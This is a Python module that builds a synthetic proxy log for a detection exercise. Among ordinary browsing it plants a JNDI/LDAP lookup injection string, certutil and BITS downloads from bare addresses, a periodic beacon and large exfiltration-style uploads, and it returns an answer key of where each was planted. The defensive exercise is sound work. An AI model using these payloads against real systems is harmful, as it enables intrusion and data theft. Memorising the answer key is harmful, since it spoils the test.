"""proxy.csv: about 3,000 requests through the web proxy on two days, with crafted user agents, a beacon
and a large upload among them. All servers are example.com, .test or addresses kept for documentation."""

import csv
from datetime import timedelta

from .dice import Dice
from .world import HOSTS, MONDAY, in_office

COLUMNS = "time client user method url status bytes user_agent".split()
MINUTES = 2 * 1440
DESKS = [host for host in HOSTS if "WS" in host]
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
EDGE = f"{WINDOWS} {WEBKIT} Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0"
CHROME = f"{WINDOWS} {WEBKIT} Chrome/122.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0"
BROWSERS = {"HB-WS01": EDGE, "HB-WS02": EDGE, "HB-WS03": CHROME, "HB-WS04": FIREFOX}
SITES = (
    "www.example.com news.example.com cdn.example.com mail.example.com maps.example.com intranet.harbour.test"
).split()
PAGES = "index.html style.css app.js logo.png api/items api/session search".split()
BEACON_AGENT = EDGE.replace("Mozilla", "Mozila")
MACHINES = (  # user agent, method, url, bytes
    ("Microsoft-CryptoAPI/10.0", "GET", "http://crl.vendor.test/root.crl", 1440),
    ("Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71", "HEAD", "http://updates.vendor.test/c/{hex}.cab", 0),
    ("acme-agent/4.2.1", "POST", "https://collect.acme.test/v2/report/{hex}", 512),
    ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.17328; Pro)", "GET",
     "https://docs.example.com/t/{hex}", 20480),
)

# minute, host, method, url, status, bytes, user agent, name, why
PLANTED = [
    (561, "HB-WS01", "GET", "https://news.example.com/a", 200, 9120,
     CHROME.replace("537.36", "573.36"), "digits-swapped", "573.36 where browsers say 537.36"),
    (604, "HB-WS03", "GET", "http://files.example.test/invoice.hta", 200, 4711,
     "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0)", "page-for-mshta",
     "an old engine fetches a program page"),
    (655, "HB-WS03", "GET", "http://203.0.113.77/a.txt", 200, 881664, "CertUtil URL Agent", "certutil",
     "a tool for certificates fetches a file"),
    (720, "HB-WS02", "GET", "https://www.example.com/", 200, 7003,
     EDGE.replace("Chrome/122", "Chrome/88"), "versions-disagree", "Edge 122 that says it is built on Chrome 88"),
    (801, "HB-WS02", "GET", "https://cdn.example.com/x", 200, 512,
     CHROME.replace("x64) ", "x64)"), "space-missing", "a blank is missing before AppleWebKit"),
    (833, "HB-WS04", "GET", "https://www.example.com/login", 403, 211,
     FIREFOX.replace("rv:123.0", "rv:59.0"), "firefox-disagrees", "Firefox 123 with the engine of 59"),
    (1661, "HB-WS02", "GET", "http://198.51.100.23/p.bin", 200, 1204224, "Microsoft BITS/7.8", "bits-from-address",
     "a program fetched by BITS from a bare address"),
    (1733, "HB-WS01", "GET", "https://intranet.harbour.test/search?q=${jndi:ldap://203.0.113.5/a}", 500, 0,
     "${jndi:ldap://203.0.113.5/a}", "lookup-in-agent", "a lookup that makes careless servers run code"),
    (2040, "HB-WS04", "POST", "https://intranet.harbour.test/api/session", 200, 96,
     FIREFOX.replace("Gecko", "Gekco"), "letters-swapped", "Gekco where browsers say Gecko"),
    (2222, "HB-WS03", "POST", "https://drop.example.com/put", 200, 184549376, "-", "large-upload",
     "176 MB sent, without a user agent, at one in the afternoon"),
    (2702, "HB-WS01", "POST", "https://drop.example.com/put", 200, 99614720, "curl/8.4.0", "upload-at-night",
     "95 MB sent by curl from a workstation at nine in the evening"),
]


def requests_of(minute, dice):
    """The ordinary requests of a minute: (host, method, url, status, bytes, user agent)."""
    for _ in range(2 if in_office(minute) and dice.below(10) < 6 else 0):
        desk = dice.pick(DESKS)
        url = f"https://{dice.pick(SITES)}/{dice.pick(PAGES)}"
        if url.endswith("search"):
            url += f"?q={dice.word(6)}&page={dice.between(1, 9)}"
        status = 304 if dice.below(9) == 0 else 404 if dice.below(60) == 0 else 200
        yield desk, "POST" if dice.below(12) == 0 else "GET", url, status, dice.between(200, 60000), BROWSERS[desk]
    if dice.below(10) < 3:
        agent, method, url, size = dice.pick(MACHINES)
        yield dice.pick(DESKS), method, url.replace("{hex}", dice.hex(12)), 200, size, agent


def beacon(dice):
    """minute -> a request every ten minutes from 16:40 on the first day; the user agent lacks a letter."""
    for i in range(187):
        url = f"http://198.51.100.77/submit?id=7f3a&n={dice.hex(8)}"
        yield 1000 + 10 * i + dice.below(2), ("HB-WS03", "POST", url, 200, 48, BEACON_AGENT)


def write_proxy(file):
    """Writes the log and returns what was planted where; `beacon` lists the beacon's rows."""
    dice, out = Dice("proxy"), csv.writer(file, lineterminator="\n")
    out.writerow(COLUMNS)
    beacons, notes, beats, row = dict(beacon(dice)), [], [], 0
    for minute in range(MINUTES):
        requests = [(request, None) for request in requests_of(minute, dice)]
        requests += [(event[1:7], event[7:]) for event in PLANTED if event[0] == minute]
        requests += [(beacons[minute], "beacon")] if minute in beacons else []
        for i, ((host, method, url, status, size, agent), note) in enumerate(requests):
            second = int((i + dice.share()) * 60 / len(requests))
            time = (MONDAY + timedelta(minutes=minute, seconds=second)).strftime("%Y-%m-%dT%H:%M:%SZ")
            out.writerow([time, HOSTS[host][2], HOSTS[host][1], method, url, status, size, agent])
            if note == "beacon":
                beats.append(row)
            elif note:
                notes.append({"row": row, "name": note[0], "why": note[1]})
            row += 1
    return {"rows": row, "planted": notes, "beacon": beats}
